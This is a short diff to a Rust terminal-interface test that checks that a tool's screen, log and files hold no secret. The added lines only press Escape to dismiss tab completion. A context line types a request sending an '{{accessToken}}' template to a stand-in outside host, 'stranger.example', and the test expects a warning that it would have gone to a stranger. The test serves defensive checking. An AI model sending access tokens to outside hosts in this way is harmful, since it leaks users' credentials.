@@ -118,6 +118,8 @@ fn the_screen_its_log_and_its_files_hold_no_secret() {
         .press("https://stranger.example/?t={{accessToken}}")
         .press(ENTER)
         .shows("would have gone to a stranger");
+    // What was not sent is still being typed.
+    term.press(ESC).hides("tab complete");
     // Sessions that end, answers that break.
     org.demo.set_fault(Some(Fault::ExpiredTokens));
     term.press("a").shows("complete").press("recent").press(ENTER).shows("200 OK");
